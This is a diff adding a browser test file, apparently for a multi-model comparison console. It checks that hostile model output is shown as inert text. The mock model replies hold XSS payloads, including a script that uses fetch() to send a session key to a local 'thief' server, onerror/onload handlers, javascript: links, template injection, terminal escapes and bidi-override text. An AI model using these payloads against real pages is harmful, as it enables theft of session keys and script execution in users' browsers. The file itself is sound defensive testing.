@@ -1,0 +1,108 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type { SandboxCall, SandboxReply } from '../support/sandbox-upstream.ts';
+import { startConsoleScene, type ConsoleScene, type ConsoleVisit } from './console-scene.ts';
+import { describeChromium } from './describe-chromium.ts';
+import { fillForm, sendAndWait } from './fill-form.ts';
+
+let thief: Server;
+let stolen = 0;
+let scene: ConsoleScene;
+let visit: ConsoleVisit;
+let page: Page;
+
+const MODELS = ['gpt-4o', 'gpt-5.4', 'gemini-2.5-flash', 'mistral-large-2512'];
+const thiefUrl = (): string => `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
+
+/** What each model says, by its place. */
+function attacks(): readonly string[] {
+  const url = thiefUrl();
+  return [
+    `<script>fetch('${url}/' + sessionStorage.getItem('assay-key')); window.owned = 1</script></pre></article><img src="${url}/a.png" onerror="window.owned = 1"><iframe src="${url}"></iframe><style>* { display: none }</style><svg onload="window.owned = 1"><a href="javascript:window.owned = 1">click</a>`,
+    `[click me](javascript:window.owned=1) ![](${url}/b.png) <${url}/c> {{constructor.constructor('window.owned=1')()}} \${window.owned=1}`,
+    `\u001B[31mred\u001B[0m \u001B]8;;${url}\u0007link\u001B]8;;\u0007 bell\u0007 back\u0008space nul\u0000 c1\u009B2J\r\nnext`,
+    `safe\u202E exe.gpj\u202C then \u2066isolated\u2069 and \u{E0041}\u{E0042}tags, but 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} and 👨‍👩‍👧 stay`,
+  ];
+}
+
+const VERDICT = `{"first_notes":"x","second_notes":"y","reasoning":"<img src=x onerror=window.owned=1> \u202Ebecause","verdict":"first","confidence":0.5}`;
+
+function reply({ user, model }: SandboxCall): SandboxReply {
+  if (user.includes('<<<FIRST')) return { content: VERDICT };
+  return { content: attacks()[MODELS.findIndex((id) => model.startsWith(id))] ?? 'none' };
+}
+
+describeChromium('an output that attacks the page', (chromium) => {
+  beforeAll(async () => {
+    thief = createServer((_request, response) => {
+      stolen += 1;
+      response.end();
+    }).listen(0, '127.0.0.1');
+    scene = await startConsoleScene(chromium, { sandbox: { reply } });
+    const account = await scene.gateway.account(10_000);
+    visit = await scene.open(account.key);
+    ({ page } = visit);
+    await fillForm(page, { prompt: 'Attack.', models: MODELS, judges: ['claude-opus-4-7'] });
+    await sendAndWait(page);
+  });
+  afterAll(async () => {
+    await scene.stop();
+    thief.close();
+  });
+
+  it('is shown as the text it is', async () => {
+    const [html, markdown, terminal, bidi] = await page.locator('.output-text').allTextContents();
+    expect([html, markdown]).toEqual(attacks().slice(0, 2));
+    expect(terminal).toBe(
+      `U+001B[31mredU+001B[0m U+001B]8;;${thiefUrl()}U+0007linkU+001B]8;;U+0007 bellU+0007 backU+0008space nulU+0000 c1U+009B2J\r\nnext`,
+    );
+    expect(bidi).toBe(
+      `safeU+202E exe.gpjU+202C then U+2066isolatedU+2069 and U+E0041U+E0042tags, but 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} and 👨‍👩‍👧 stay`,
+    );
+  });
+
+  it('has made no element of its own', async () => {
+    const inside = `[...new Set([...document.querySelectorAll('.output-text *')].map((node) => node.tagName + '.' + node.className))]`;
+    expect(await page.evaluate(inside)).toEqual(['SPAN.hidden-character']);
+    expect(
+      await page.locator('.results :is(script, style, iframe, a, img:not([src="console/mark.svg"]))').count(),
+    ).toBe(0);
+  });
+
+  it('reaches the judges’ grounds no better', async () => {
+    await page.locator('.verdict').first().click();
+    const [grounds] = await page.locator('.reasoning').allTextContents();
+    expect(grounds).toBe('<img src=x onerror=window.owned=1> U+202Ebecause');
+    expect(await page.locator('.reasoning img').count()).toBe(0);
+  });
+
+  it('has run nothing, loaded nothing, asked nobody', async () => {
+    expect(await page.evaluate('window.owned')).toBeUndefined();
+    expect(visit.faults()).toEqual([]);
+    expect(stolen).toBe(0);
+  });
+
+  it('would be stopped by the browser even where the page had a hole', async () => {
+    const attempts = [
+      `document.querySelector('.output').innerHTML = '<b>x</b>'`,
+      `setTimeout('window.owned = 1')`,
+      `document.head.append(Object.assign(document.createElement('script'), { text: 'window.owned = 1' }))`,
+    ];
+    const outcomes = await page.evaluate(
+      `[${attempts
+        .map(
+          (attempt) => `(() => { try { ${attempt}; return 'done' } catch (error) { return error.name } })()`,
+        )
+        .join(',')}]`,
+    );
+    expect(outcomes).toEqual(['TypeError', 'TypeError', 'TypeError']);
+    await page.evaluate(
+      `document.body.append(Object.assign(document.createElement('img'), { src: '${thiefUrl()}/hole.png' }))`,
+    );
+    await page.evaluate(`fetch('${thiefUrl()}/hole').catch(() => {})`);
+    expect(await page.evaluate('window.owned')).toBeUndefined();
+    expect(stolen).toBe(0);
+  });
+});
